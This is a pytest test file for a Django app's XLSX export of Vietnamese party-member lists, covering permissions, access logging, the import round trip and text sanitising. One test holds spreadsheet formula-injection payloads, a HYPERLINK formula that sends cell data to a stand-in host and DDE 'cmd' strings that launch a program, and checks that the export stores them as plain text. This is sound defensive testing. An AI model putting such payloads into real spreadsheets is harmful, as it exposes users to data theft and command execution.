"""Member lists exported to XLSX: the importer's layout, logged reads, scoped access, round trip."""

from __future__ import annotations

import datetime as dt
import io
from pathlib import Path
from typing import Any

import pytest
from django.test import Client
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from quantriet.core.cells import file_text
from quantriet.orgs import exports
from quantriet.orgs.models import AccessLog, Member, Unit
from tests.conftest import World, make_member
from tests.orgs.import_fixtures import run_cli


def _export(client: Client, **params: Any) -> Any:
    return client.get("/members/export.xlsx", params)


def _rows(response: Any) -> list[tuple[Any, ...]]:
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    return list(sheet.iter_rows(values_only=True))


def _cells(response: Any) -> Any:
    return load_workbook(io.BytesIO(b"".join(response.streaming_content))).active


def test_alice_exports_the_commune_with_vietnamese_headers_and_dates(world: World) -> None:
    response = _export(world.client_for(world.alice), unit=world.xa.pk)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "dang-vien-XA-" in response["Content-Disposition"]
    sheet = _cells(response)
    rows = list(sheet.iter_rows(values_only=True))
    assert "Đảng bộ xã An Hòa" in rows[0][0]
    # Without a stated purpose the sensitive profile columns (CCCD, ethnicity, ...) are not in the file.
    assert rows[2] == tuple(column.label for column in exports.columns(sensitive=False))
    names = {r[0] for r in rows[3:]}
    assert names == {"Nguyễn Văn An", "Trần Thị Bình", "Đặng Văn Dũng"}  # nobody from the sibling commune
    an = next(r for r in rows[3:] if r[0] == "Nguyễn Văn An")
    assert an[1:9] == (
        dt.datetime(1985, 5, 17),
        "Nam",
        dt.datetime(2010, 3, 2),
        dt.datetime(2011, 3, 2),
        "10000001",
        "XA1",
        "Chi bộ thôn 1",
        "Chính thức",
    )
    assert sheet["B4"].number_format == "DD/MM/YYYY"


def test_every_exported_member_is_logged_as_read_through_an_export(world: World) -> None:
    _export(world.client_for(world.alice), unit=world.xa.pk)
    logs = AccessLog.objects.filter(channel="export", user=world.alice)
    assert sorted(logs.values_list("member_id", flat=True)) == sorted(
        [world.m_xa1.pk, world.m_xa2.pk, world.m_dave.pk]
    )


def test_the_search_and_status_filters_apply_to_the_export(world: World) -> None:
    make_member(world.xa1, "Trần Văn Mới", None, status="probationary", full_membership_date=None)
    client = world.client_for(world.alice)
    assert [r[0] for r in _rows(_export(client, unit=world.xa.pk, q="binh"))[3:]] == ["Trần Thị Bình"]
    assert [r[0] for r in _rows(_export(client, unit=world.xa.pk, status="probationary"))[3:]] == [
        "Trần Văn Mới"
    ]


@pytest.mark.parametrize(
    ("user", "unit", "status"),
    [
        ("bob", "xa1", 200),
        ("bob", "xa", 404),
        ("bob", "xa2", 404),
        ("charlie", "xa", 404),
        ("charlie", "xa1", 404),
        ("charlie", "xb", 200),
        ("dave", "xa2", 404),
        ("eve", "xa", 404),
    ],
)
def test_a_user_exports_only_units_where_they_may(world: World, user: str, unit: str, status: int) -> None:
    response = _export(world.client_for(getattr(world, user)), unit=getattr(world, unit).pk)
    assert response.status_code == status
    if status == 404:
        assert not AccessLog.objects.filter(channel="export").exists()


def test_an_export_needs_a_unit_and_a_signed_in_user(world: World) -> None:
    assert _export(world.client_for(world.alice)).status_code == 404
    assert _export(world.client_for(world.alice), unit="abc").status_code == 404
    assert _export(Client(), unit=world.xa.pk).status_code == 302


def test_an_export_reimports_unchanged(world: World, tmp_path: Path) -> None:
    make_member(world.xa1, "Trần Văn Mới", None, status="probationary", full_membership_date=None)
    make_member(world.xa2, "Lê Thị Cũ", "10000099", status="deceased", sex="female")
    before = list(Member.objects.order_by("pk").values())
    path = tmp_path / "export.xlsx"
    path.write_bytes(b"".join(_export(world.client_for(world.alice), unit=world.xa.pk).streaming_content))
    status, out = run_cli("import", "members", str(path), "--scope", "XA", "--as", "alice")
    assert status == 0, out
    assert "thêm 0, cập nhật 0, giữ nguyên 5" in out
    assert list(Member.objects.order_by("pk").values()) == before


def test_the_export_runs_a_fixed_number_of_queries_whatever_the_list_length(
    world: World, django_assert_max_num_queries: Any
) -> None:
    for i in range(60):
        make_member(world.xa1, f"Người Thứ {i}", f"5{i:07d}")
    client = world.client_for(world.alice)
    with django_assert_max_num_queries(12):
        response = _export(client, unit=world.xa.pk)
    assert len(_rows(response)) == 3 + 63


def test_members_left_in_a_dissolved_cell_reimport_but_nobody_new_joins_it(
    world: World, tmp_path: Path
) -> None:
    from quantriet.orgs import services

    old = services.create_unit(None, name="Chi bộ thôn Cũ", code="XAOLD", level="cell", parent=world.xa)
    make_member(old, "Phan Văn Cũ", "10000077", status="deceased")
    services.dissolve_unit(None, old, date=dt.date(2025, 7, 1))
    path = tmp_path / "export.xlsx"
    path.write_bytes(b"".join(_export(world.client_for(world.alice), unit=world.xa.pk).streaming_content))
    status, out = run_cli("import", "members", str(path), "--scope", "XA")
    assert status == 0 and "giữ nguyên 4" in out, out
    sheet = load_workbook(path)
    sheet.active.append(
        ["Người Mới", "01/01/1990", "Nam", "01/01/2015", None, "10000078", "XAOLD", None, None]
    )
    sheet.save(path)
    status, out = run_cli("import", "members", str(path), "--scope", "XA")
    assert status == 1 and "Đơn vị “Chi bộ thôn Cũ” đã giải thể hoặc sáp nhập" in out


HYPERLINK = '=HYPERLINK("http://evil.example/?u="&A5,"Chi bộ thôn Tây")'
CALC = "=cmd|' /C calc'!A0"


def test_names_card_numbers_and_unit_names_that_look_like_formulas_are_exported_as_text(
    world: World,
) -> None:
    alice = world.client_for(world.alice)
    renamed = alice.post(f"/units/{world.xa1.pk}/rename/", {"new_name": HYPERLINK, "date": "01/07/2025"})
    assert renamed.status_code == 302
    # Names and card numbers as an API or import path before its checks could have stored them.
    Member.objects.filter(pk=world.m_xa1.pk).update(full_name=CALC, card_number="+cmd|' /C calc'!A0")
    Member.objects.filter(pk=world.m_xa2.pk).update(
        full_name="@SUM(1+1)*cmd|' /C calc'!A0", card_number="-1+2"
    )
    sheet = _cells(_export(alice, unit=world.xa.pk))
    rows = {row[0].value: row for row in sheet.iter_rows(min_row=4)}
    an = rows[CALC]
    assert [(c.value, c.data_type) for c in (an[0], an[5], an[7])] == [
        (CALC, "s"),
        ("+cmd|' /C calc'!A0", "s"),
        (HYPERLINK, "s"),
    ]
    binh = rows["@SUM(1+1)*cmd|' /C calc'!A0"]
    assert (binh[0].data_type, binh[5].value, binh[5].data_type) == ("s", "-1+2", "s")
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_control_characters_already_stored_do_not_break_the_export(world: World) -> None:
    # Stored before input was cleaned: the export drops what a spreadsheet cannot hold instead of a 500.
    Member.objects.filter(pk=world.m_xa1.pk).update(
        full_name="Nguyễn\x01 Văn An\x1f", card_number="1000\x080"
    )
    Unit.objects.filter(pk=world.xa1.pk).update(name="Chi bộ\x01 thôn 1\x0b")
    response = _export(world.client_for(world.alice), unit=world.xa.pk, q="\x00\x01")
    assert response.status_code == 200
    rows = _rows(response)
    an = next(r for r in rows[3:] if r[0] == "Nguyễn Văn An")
    assert (an[5], an[7]) == ("10000", "Chi bộ thôn 1")


# Whatever a row could hold (a database keeps no NUL or lone surrogate, so neither is drawn).
STORED_TEXT = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00"), max_size=40)


@settings(max_examples=20, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(name=STORED_TEXT, unit_name=STORED_TEXT)
def test_any_stored_name_is_exported_as_text_and_never_breaks_the_file(
    world: World, name: str, unit_name: str
) -> None:
    Member.objects.filter(pk=world.m_xa1.pk).update(full_name=name)
    Unit.objects.filter(pk=world.xa1.pk).update(name=unit_name)
    response = _export(world.client_for(world.alice), unit=world.xa1.pk)
    assert response.status_code == 200
    sheet = _cells(response)
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    member = next(sheet.iter_rows(min_row=4))
    assert (member[0].value, member[7].value) == (file_text(name) or None, file_text(unit_name) or None)
